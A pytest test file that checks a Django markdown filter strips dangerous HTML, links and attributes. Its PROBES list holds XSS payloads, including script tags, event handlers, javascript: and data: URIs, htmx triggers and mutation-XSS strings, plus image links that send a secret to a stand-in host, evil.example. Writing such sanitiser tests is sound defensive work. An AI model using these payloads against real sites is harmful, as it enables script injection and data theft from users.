"""Markdown of models and people: what it may say, and what it must not be able to do."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString
from hypothesis import given, settings
from hypothesis import strategies as st

from dashboard.templatetags.prose import ATTRIBUTES, TAGS, markdown

# What attackers send: scripts, handlers, schemes in disguise, htmx attributes, forms, frames, pictures that phone home.
PROBES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)"><a href="x">y</a></svg>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    '<a href="#" hx-get="/settings" hx-trigger="load">x</a>',
    '<div data-hx-post="/runs/1/cancel" data-hx-trigger="load">x</div>',
    '<form action="/sign-out" method="post"><button>Press</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "![x](https://evil.example/?q=SECRET)",
    "![x](//evil.example/x)",
    '![x][p]\n\n[p]: https://evil.example/p.png "t"',
    '[x](https://ok.example "a\\" onmouseover=alert(1) x=\\"")',
    '<p style="position:fixed;inset:0" class="btn" id="main">x</p>',
    "<style>*{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "`<script>alert(1)</script>`\n\n```html\n<img src=x onerror=alert(1)>\n```",
    "<input type=image src=x formaction=//evil.example>",
    "<!--><script>alert(1)</script>-->",
    'https://evil.example/"onmouseover=alert(1)',
    '<https://ok.example/"><script>alert(1)</script>>',
]


class _Inert(HTMLParser):
    """Fails on any element, attribute or address outside the allow-list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, f"<{tag}> survived"
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()), (
                f"{tag} {name} survived"
            )
            if name == "href":
                scheme, mark, _ = (value or "").partition(":")
                assert not mark or "/" in scheme or scheme.lower() in {"http", "https", "mailto"}, (
                    f"{value} survived"
                )

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment survived")


@pytest.mark.parametrize("probe", PROBES)
def test_nothing_that_acts_survives(probe: str) -> None:
    html = markdown(probe)
    _Inert().feed(html)
    for word in ("<script", "<img", "<form", "<iframe", "<style"):
        assert word not in html.lower()


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *PROBES,
                "\n",
                "> ",
                "- ",
                "|a|b|\n|-|-|\n|",
                "**",
                "_",
                "](",
                "<",
                ">",
                '"',
                "'",
                "&",
                "\0",
                "\u202e",
            ]
        ),
        max_size=8,
    ).map("".join)
)
def test_nothing_that_acts_survives_in_any_mixture(text: str) -> None:
    _Inert().feed(markdown(text))


def test_the_address_of_a_picture_stays_visible_as_a_link() -> None:
    html = markdown("![chart](https://example.org/chart.png)")
    assert "https://example.org/chart.png" in html
    assert ">chart</a>" in html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**a** _b_ ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>"),
        ("# A\n\n- b\n- c", "<h1>A</h1>\n<ul>\n<li>b</li>\n<li>c</li>\n</ul>"),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>'),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>"),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>"),
    ],
)
def test_what_people_write_is_kept(text: str, html: str) -> None:
    assert markdown(text).strip() == html


def test_tables_are_drawn_without_inline_style() -> None:
    html = markdown("| a | b |\n| :- | -: |\n| 1 | 2 |")
    assert "<th>b</th>" in html
    assert "<td>2</td>" in html
    assert "style" not in html


def test_bare_addresses_become_links_that_lend_no_weight() -> None:
    assert markdown("see https://example.org/a?b=1&c=2").strip() == (
        '<p>see <a href="https://example.org/a?b=1&amp;c=2" rel="nofollow noopener noreferrer">https://example.org/a?b=1&amp;c=2</a></p>'
    )


def test_nothing_is_nothing_and_the_result_is_marked_safe() -> None:
    assert markdown(None) == ""
    assert isinstance(markdown("x"), SafeString)
